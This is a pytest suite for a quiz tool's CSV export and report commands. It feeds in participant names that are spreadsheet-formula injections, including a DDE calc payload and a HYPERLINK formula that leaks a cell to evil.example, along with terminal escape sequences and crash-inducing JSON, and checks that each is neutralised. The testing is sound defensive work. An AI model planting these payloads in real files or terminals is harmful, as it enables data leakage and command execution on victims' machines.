"""Results files and CSV as hostile input, through the real command.

A participant picks their own name and hands the facilitator a file: a name that is a
spreadsheet formula must stay text in every CSV, a name full of terminal escapes must
not reach the facilitator's terminal or report, and a file built to crash the reader
must give one line and exit 2.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import MYTHQUIZ, run_env
from tui.export.csvcell import TRIGGERS, Writer, neutralise, read_rows, restore

FORMULA_NAMES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your score")',
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "Ada",
)
ESCAPES = "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x1b[2J\x1b[31mRED\x9b2J\x07\u202eevil\u2028x"


def mq(*args: str, stdin: str = "", data_dir=None):
    extra = ["--data-dir", str(data_dir)] if data_dir is not None else []
    # Wide, so that the table does not wrap a name across lines.
    return subprocess.run([str(MYTHQUIZ), *extra, *args], input=stdin, capture_output=True, text=True,
                          env=run_env(COLUMNS="400"), timeout=60)


def spreadsheet_cells(text: str) -> list[str]:
    """Each cell as a spreadsheet sees it on import: the CSV unquoted, nothing undone."""
    return [value for values in csv.reader(io.StringIO(text, newline="")) for value in values]


def is_formula(value: str) -> bool:
    return value.startswith(TRIGGERS)


# --- the helper ----------------------------------------------------------------------


@given(st.lists(st.lists(st.text(), min_size=1, max_size=5), min_size=1, max_size=5))
@settings(max_examples=300, deadline=None)
def test_any_cells_read_back_exactly_and_none_is_a_formula(rows):
    out = io.StringIO()
    Writer(out).writerows(rows)
    text = out.getvalue()
    # A row of one empty cell is an empty line, which csv.reader reads as no cells.
    assert read_rows(text) == [values if values != [""] else [] for values in rows]
    assert not any(is_formula(value) for value in spreadsheet_cells(text))


@given(st.text())
def test_restore_undoes_neutralise(text):
    written, prefixed = neutralise(text)
    assert restore(written) == text
    assert prefixed == text.startswith((*TRIGGERS, "'"))
    assert not is_formula(written)


# --- results CSV through the real command ---------------------------------------------


@pytest.fixture
def formula_participants(tmp_path):
    """One data dir holding a quiz by each hostile name; its JSON and CSV exports."""
    data = tmp_path / "data"
    for name in FORMULA_NAMES:
        result = mq("--plain", "quiz", "--count", "2", "--seed", "3", f"--name={name}", stdin="1\n2\n",
                    data_dir=data)
        assert result.returncode == 0, result.stderr
    as_json, as_csv = tmp_path / "results.json", tmp_path / "results.csv"
    assert mq("export", "results", "-o", str(as_json), data_dir=data).returncode == 0
    assert mq("export", "results", "--format", "csv", "-o", str(as_csv), data_dir=data).returncode == 0
    return as_json, as_csv


def test_a_formula_name_stays_text_in_the_results_csv(formula_participants):
    as_json, as_csv = formula_participants
    text = as_csv.read_bytes().decode("utf-8")  # as written: no newline translation
    cells = spreadsheet_cells(text)
    formulas = [value for value in cells if is_formula(value)]
    assert not formulas, formulas
    names = {row[0] for row in csv.reader(io.StringIO(text, newline=""))}
    for name in FORMULA_NAMES:
        shown = "'" + name if name.startswith((*TRIGGERS, "'")) else name
        assert shown in names, name  # the name, as text, with one quote before it
        if shown != name:  # and the prefixed cell is quoted in the file, as OWASP asks
            assert '"' + shown.replace('"', '""') + '"' in text
    # JSON stays exact.
    sessions = json.loads(as_json.read_text(encoding="utf-8"))["sessions"]
    assert {s["name"] for s in sessions} == set(FORMULA_NAMES)


def test_report_reads_the_csv_back_as_it_reads_the_json(formula_participants, tmp_path):
    as_json, as_csv = formula_participants
    from_json = mq("report", str(as_json), "--format", "markdown")
    from_csv = mq("report", str(as_csv), "--format", "markdown")
    assert from_json.returncode == 0 and from_csv.returncode == 0, from_csv.stderr
    assert from_csv.stdout == from_json.stdout
    assert "=HYPERLINK" in from_csv.stdout and "'=HYPERLINK" not in from_csv.stdout
    assert "'=already quoted" in from_csv.stdout and "''=already" not in from_csv.stdout


def test_a_results_csv_with_the_wrong_header_is_one_line(tmp_path):
    bad = tmp_path / "other.csv"
    bad.write_text("a,b\n1,2\n", encoding="utf-8")
    result = mq("report", str(bad))
    assert result.returncode == 2 and len(result.stderr.splitlines()) == 1
    assert str(bad) in result.stderr and "Traceback" not in result.stderr


# --- hostile results files -----------------------------------------------------------


def results_file(path, name: str, question: str = "Q?", answer: str = "A", date: str = "2026-01-01"):
    path.write_text(json.dumps({
        "format": "mythquiz-results", "version": 1, "pack": "x",
        "sessions": [{"name": name, "date": date, "answers": [
            {"item": "no-such-item", "question": question, "given": "B", "answer": answer,
             "correct": False, "seconds": 1}]}],
    }), encoding="utf-8")
    return path


CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def test_escapes_in_a_results_file_reach_no_output(tmp_path):
    hostile = results_file(tmp_path / "hostile.json", name=ESCAPES, question="Q " + ESCAPES,
                           answer="A\x07" + ESCAPES, date="\x1b[2J2026")
    outputs = {}
    for fmt in ("table", "markdown", "html"):
        result = mq("report", str(hostile), "--format", fmt)
        assert result.returncode == 0, result.stderr
        outputs[fmt] = result.stdout
    for fmt, text in outputs.items():
        assert not CONTROL.search(text), (fmt, CONTROL.search(text))
        assert "\\x1b" in text and "\\x07" in text and "\\x9b" in text, fmt  # made visible
    # The same name through a results CSV.
    data = tmp_path / "data"
    assert mq("--plain", "quiz", "--count", "1", "--seed", "1", f"--name={ESCAPES}", stdin="1\n",
              data_dir=data).returncode == 0
    as_csv = tmp_path / "escapes.csv"
    assert mq("export", "results", "--format", "csv", "-o", str(as_csv), data_dir=data).returncode == 0
    for fmt in ("table", "markdown", "html"):
        result = mq("report", str(as_csv), "--format", fmt)
        assert result.returncode == 0 and not CONTROL.search(result.stdout), fmt
        assert "x1b" in result.stdout and "x07" in result.stdout, fmt  # shown, not obeyed


def test_escapes_in_a_results_file_stay_out_of_a_real_terminal(tmp_path):
    """The table in a terminal (a pseudo-terminal): Rich's own colours only, no ESC ] or BEL."""
    import pty

    hostile = results_file(tmp_path / "hostile.json", name=ESCAPES)
    pid, fd = pty.fork()
    if pid == 0:  # the child: the real command on a terminal
        os.execve(str(MYTHQUIZ), [str(MYTHQUIZ), "report", str(hostile)],
                  {**run_env(), "TERM": "xterm-256color", "COLUMNS": "200"})
    seen = bytearray()
    while True:
        try:
            chunk = os.read(fd, 65536)
        except OSError:
            break
        if not chunk:
            break
        seen.extend(chunk)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0, bytes(seen)
    text = seen.decode("utf-8", "replace")
    assert "\\x1b]8;;http://evil.example" in text  # shown, not obeyed
    assert "\x1b]" not in text and "\x07" not in text and "\x1b[2J" not in text and "\x9b" not in text
    assert "\u202e" not in text


@pytest.mark.parametrize("body, why", [
    ("[" * 200_000, "nested"),
    ('{"format": "mythquiz-results", "sessions": ' + "{\"a\": " * 100_000, "nested"),
    ("[" * 30 + "]" * 30, "not a mythquiz results file"),
    ('{"format": "mythquiz-results", "sessions": [{"answers": [1e999999, ' + "9" * 5000 + "]}]}",
     "not valid JSON"),
], ids=["200000-brackets", "100000-objects", "shallow-but-wrong", "huge-numbers"])
def test_a_results_file_built_to_crash_the_reader_is_one_line_and_exit_2(tmp_path, body, why):
    path = tmp_path / "attack.json"
    path.write_text(body, encoding="utf-8")
    result = mq("report", str(path))
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and str(path) in lines[0] and why in lines[0], result.stderr[-500:]
    assert "Traceback" not in result.stderr and result.stdout == ""


def test_results_files_that_are_too_big_or_not_files_are_one_line(tmp_path):
    big = tmp_path / "big.json"
    with big.open("wb") as fh:
        fh.truncate(17 * 1024 * 1024)
    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)
    named = tmp_path / "evil\x1b[2J.json"
    named.write_text("[", encoding="utf-8")
    for path in (big, fifo, tmp_path, tmp_path / "missing.json", named):
        result = mq("report", str(path))
        assert result.returncode == 2, path
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
        assert "\x1b" not in result.stderr  # a file's name cannot reach the terminal either


def test_report_reads_a_live_rooms_csv_written_by_the_helper(tmp_path):
    """The room's class report CSV (one row per answer), formula names and all."""
    from tui.core.pack import load_pack

    pack = load_pack(None, None)
    first, second = pack.items[0], pack.items[1]
    out = io.StringIO()
    writer = Writer(out)
    writer.writerow(("room", "participant", "question_number", "item_id", "answer", "correct",
                     "answered_at", "seconds_to_answer"))
    writer.writerow(("123456", "=cmd|' /C calc'!A0", 1, first.id, first.answer, 1, "2026-01-01T10:00:00", 3.5))
    writer.writerow(("123456", "=cmd|' /C calc'!A0", 2, second.id, "wrong", 0, "2026-01-01T10:01:00", 4))
    writer.writerow(("123456", "Bo", 1, first.id, "wrong", 0, "2026-01-01T10:00:02", 2))
    room = tmp_path / "room.csv"
    room.write_text(out.getvalue(), encoding="utf-8", newline="")
    assert not any(is_formula(value) for value in spreadsheet_cells(out.getvalue()))
    result = mq("report", str(room), "--format", "markdown")
    assert result.returncode == 0, result.stderr
    assert "2 participants." in result.stdout
    assert "| =cmd\\|' /C calc'!A0 | 1 of 2 |" in result.stdout  # read back as written
    assert "'=cmd" not in result.stdout
    assert "Missed by 1 of 2 (50%)" in result.stdout
    broken = tmp_path / "broken.csv"
    broken.write_text(out.getvalue().splitlines()[0] + "\n1,Ann,1,x\n", encoding="utf-8")
    result = mq("report", str(broken))
    assert result.returncode == 2 and f"{broken}:2:" in result.stderr and "Traceback" not in result.stderr
